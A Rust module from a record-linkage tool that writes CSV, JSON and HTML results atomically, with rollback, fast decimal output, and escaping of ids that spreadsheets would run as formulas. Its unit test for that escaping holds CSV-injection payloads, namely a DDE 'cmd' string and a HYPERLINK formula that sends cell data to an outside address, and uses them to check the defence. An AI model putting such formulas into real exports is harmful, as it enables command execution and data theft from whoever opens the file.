//! Writing the results: into a folder beside, moved into place when all is whole.

use super::{Args, read::ReadFiles, report};
use linkage::{Engine, Linked, runs_as_formula};
use std::{
    fs::{self, File},
    io::{BufWriter, Write},
    path::{Path, PathBuf},
};

/// The files that are written, in the order in which they are put into place.
const FILES: [&str; 4] = ["links.csv", "clusters.csv", "model.json", "report.html"];

/// Writes the four files. Either all are new, or those from before stand as they were.
pub fn all(
    args: &Args,
    folder: &Path,
    lang: domain::Lang,
    engine: &Engine,
    linked: &Linked,
    read: &ReadFiles,
) -> Result<(), String> {
    let tell = |what: &Path, e: std::io::Error| {
        args.tongue.tell(
            "command-not-written",
            &[("file", &what.display()), ("why", &e)],
        )
    };
    fs::create_dir_all(folder).map_err(|e| tell(folder, e))?;
    for name in FILES {
        let target = folder.join(name);
        if target.symlink_metadata().is_ok_and(|m| m.is_dir()) {
            return Err(tell(&target, std::io::ErrorKind::IsADirectory.into()));
        }
    }
    let beside = Beside(folder.join(format!(".unfinished-{}", std::process::id())));
    fs::create_dir_all(&beside.0).map_err(|e| tell(&beside.0, e))?;
    let strip = usize::from(args.files.len() == 2);
    let model = serde_json::to_string_pretty(engine.model()).map_err(|e| e.to_string())?;
    let page = report::page(lang, engine, linked, read);
    let put = |name: &str, fill: &dyn Fn(&mut BufWriter<File>) -> std::io::Result<()>| {
        let path = beside.0.join(name);
        let write = || {
            let mut out = BufWriter::with_capacity(1 << 20, File::create(&path)?);
            fill(&mut out)?;
            out.into_inner()
                .map_err(std::io::IntoInnerError::into_error)?
                .sync_all()
        };
        write().map_err(|e| tell(&path, e))
    };
    put("links.csv", &|out| links(out, engine, linked, strip))?;
    put("clusters.csv", &|out| clusters(out, engine, linked, strip))?;
    put("model.json", &|out| out.write_all(model.as_bytes()))?;
    put("report.html", &|out| out.write_all(page.as_bytes()))?;
    into_place(&beside.0, folder).map_err(|(name, e)| tell(&folder.join(name), e))
}

/// Moves the new files into the folder. Where one cannot be moved, those from before are put back.
fn into_place(beside: &Path, folder: &Path) -> Result<(), (&'static str, std::io::Error)> {
    let before = |name: &str| beside.join(format!("before-{name}"));
    let mut moved: Vec<(&'static str, bool)> = Vec::new();
    let outcome = FILES.into_iter().try_for_each(|name| {
        let target = folder.join(name);
        let there = target.symlink_metadata().is_ok();
        if there {
            fs::rename(&target, before(name)).map_err(|e| (name, e))?;
        }
        moved.push((name, there));
        fs::rename(beside.join(name), &target).map_err(|e| (name, e))
    });
    if outcome.is_err() {
        for (name, there) in moved.into_iter().rev() {
            let target = folder.join(name);
            // As well as it goes: what fails here has failed already.
            let _ = if there {
                fs::rename(before(name), &target)
            } else {
                fs::remove_file(&target)
            };
        }
    }
    outcome
}

/// The folder in which the files grow; gone at the end, however it ends.
struct Beside(PathBuf);

impl Drop for Beside {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

/// Pairs whose ids are fetched at a time.
const TOGETHER: usize = 256;

/// An id as a field, quoted where it must be. One that a spreadsheet would run has a `'` in front:
/// whoever reads the file takes one leading `'` away.
fn id(out: &mut impl Write, bytes: &[u8], strip: usize) -> std::io::Result<()> {
    let bytes = bytes.get(strip..).unwrap_or_default();
    // Nearly every id is letters and digits, which is told without looking for each mark by itself.
    if bytes.iter().all(u8::is_ascii_alphanumeric) {
        return out.write_all(bytes);
    }
    let mark = runs_as_formula(bytes);
    let separates = |b: &u8| matches!(b, b',' | b';' | b'"' | b'\n' | b'\r' | b'\t');
    if mark || bytes.iter().any(separates) {
        let text = String::from_utf8_lossy(bytes).replace('"', "\"\"");
        write!(out, "\"{}{text}\"", if mark { "'" } else { "" })
    } else {
        out.write_all(bytes)
    }
}

fn links(
    out: &mut impl Write,
    engine: &Engine,
    linked: &Linked,
    strip: usize,
) -> std::io::Result<()> {
    writeln!(out, "record_id_1,record_id_2,weight,probability,outcome")?;
    let mut ids = Vec::with_capacity(TOGETHER);
    let parts = linked.pairs.chunks(TOGETHER);
    for (pairs, outcomes) in parts.zip(linked.outcomes.chunks(TOGETHER)) {
        engine.ids_of(pairs, &mut ids);
        for ((pair, outcome), (a, b)) in pairs.iter().zip(outcomes).zip(&ids) {
            id(out, a, strip)?;
            out.write_all(b",")?;
            id(out, b, strip)?;
            out.write_all(b",")?;
            decimal(out, pair.score.weight, 3)?;
            out.write_all(b",")?;
            decimal(out, pair.score.probability(), 6)?;
            out.write_all(b",")?;
            out.write_all(outcome.name().as_bytes())?;
            out.write_all(b"\n")?;
        }
    }
    Ok(())
}

/// A number with so many places behind the point; with millions of pairs the general way of
/// writing numbers is felt.
fn decimal(out: &mut impl Write, number: f32, places: u32) -> std::io::Result<()> {
    let unit = 10_u64.pow(places);
    let scaled = (f64::from(number).abs() * unit as f64).round();
    let mut rest = scaled as u64;
    let mut digits = [b'0'; 32];
    let mut at = digits.len();
    let mut put = |digit: u8| {
        at -= 1;
        digits[at] = digit;
        at
    };
    for place in 0_u32.. {
        if place > places && rest == 0 {
            break;
        }
        if place == places {
            put(b'.');
        }
        put(b'0' + (rest % 10) as u8);
        rest /= 10;
    }
    let from = if number < 0.0 && scaled > 0.0 {
        put(b'-')
    } else {
        at
    };
    out.write_all(&digits[from..])
}

/// Every record with its person, in the order of their ids. A person is called by the smallest of its ids, so that names
/// and order do not depend on how the records came. With two files, which may number alike, a third column says of which
/// file a record is, and a person's name has that number and a colon in front.
fn clusters(
    out: &mut impl Write,
    engine: &Engine,
    linked: &Linked,
    strip: usize,
) -> std::io::Result<()> {
    let two = strip > 0;
    let head = if two { ",file" } else { "" };
    writeln!(out, "record_id,cluster_id{head}")?;
    let mut places: Vec<u32> = engine.places().collect();
    places.sort_unstable_by_key(|place| engine.id_at(*place));
    let mut smallest = vec![None; linked.clusters.len()];
    for place in &places {
        smallest[linked.clusters[*place as usize] as usize].get_or_insert(*place);
    }
    let mut name = Vec::new();
    for place in places {
        let of = smallest[linked.clusters[place as usize] as usize].unwrap_or(place);
        id(out, engine.id_at(place), strip)?;
        out.write_all(b",")?;
        let whole = engine.id_at(of);
        if two {
            name.clear();
            name.extend_from_slice(&whole[..strip]);
            name.push(b':');
            name.extend_from_slice(&whole[strip..]);
            id(out, &name, 0)?;
            out.write_all(b",")?;
            out.write_all(&engine.id_at(place)[..strip])?;
        } else {
            id(out, whole, 0)?;
        }
        out.write_all(b"\n")?;
    }
    Ok(())
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "a test")]
mod tests {
    use super::*;

    #[test]
    fn where_one_file_cannot_be_put_into_place_those_from_before_stand() {
        let folder = testkit::Folder::make();
        let (beside, out) = (folder.path().join("beside"), folder.path().join("out"));
        fs::create_dir_all(&beside).unwrap();
        fs::create_dir_all(&out).unwrap();
        for name in FILES {
            fs::write(beside.join(name), "new").unwrap();
        }
        fs::write(out.join("links.csv"), "old").unwrap();
        fs::remove_file(beside.join("model.json")).unwrap();
        let (name, _) = into_place(&beside, &out).unwrap_err();
        assert_eq!(name, "model.json");
        assert_eq!(fs::read_to_string(out.join("links.csv")).unwrap(), "old");
        assert!(
            !out.join("clusters.csv").exists(),
            "it was not there before"
        );
        fs::write(beside.join("model.json"), "new").unwrap();
        for name in ["links.csv", "clusters.csv", "report.html"] {
            fs::write(beside.join(name), "new").unwrap();
        }
        into_place(&beside, &out).unwrap();
        assert!(
            FILES
                .iter()
                .all(|n| fs::read_to_string(out.join(n)).unwrap() == "new")
        );
    }

    /// A field as it stands in the file, and as whoever reads it gets it back.
    fn written(text: &str) -> (String, String) {
        let mut out = Vec::new();
        id(&mut out, text.as_bytes(), 0).unwrap();
        let field = String::from_utf8(out).unwrap();
        let cell = match field.strip_prefix('"').and_then(|f| f.strip_suffix('"')) {
            Some(quoted) => quoted.replace("\"\"", "\""),
            None => field.clone(),
        };
        let back = cell.strip_prefix('\'').unwrap_or(&cell).to_owned();
        (cell, back)
    }

    #[test]
    fn nothing_that_leaves_is_a_formula_and_everything_can_be_had_back() {
        let signs = [
            "=", "+", "-", "@", "\t", "\r", "\n", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}",
        ];
        for sign in signs {
            for text in [
                format!("{sign}1+1"),
                format!("{sign}cmd|' /C calc'!A0"),
                format!("  {sign}HYPERLINK(\"http://192.0.2.1/?\"&A1)"),
                sign.to_owned(),
            ] {
                let (cell, back) = written(&text);
                assert!(cell.starts_with('\''), "{text:?} is a formula: {cell:?}");
                assert_eq!(back, text);
            }
        }
        for text in [
            "1007", "a;=1", "O'Brien", "'quoted", "''twice", "a,b\"c", "x\ty", "",
        ] {
            assert_eq!(written(text).1, text, "{text:?}");
        }
        assert_eq!(written("1007").0, "1007", "plain ids stay plain");
        let mut out = Vec::new();
        id(&mut out, b"a;=1", 0).unwrap();
        assert_eq!(
            out, b"\"a;=1\"",
            "one cell where a semicolon separates, too"
        );
    }

    #[test]
    fn numbers_are_written_as_they_are_anywhere() {
        for (number, places) in [
            (0.0, 3),
            (-0.0001, 3),
            (6.63, 3),
            (-10.0, 3),
            (123.456_7, 3),
            (0.999_999_9, 6),
            (0.000_001, 6),
            (-0.5, 3),
            (1e-9, 6),
        ] {
            let mut out = Vec::new();
            decimal(&mut out, number, places).unwrap();
            let usual = format!("{number:.*}", places as usize);
            let usual = usual
                .strip_prefix('-')
                .filter(|t| t.bytes().all(|b| b == b'0' || b == b'.'))
                .unwrap_or(&usual);
            assert_eq!(String::from_utf8(out).unwrap(), usual);
        }
    }
}
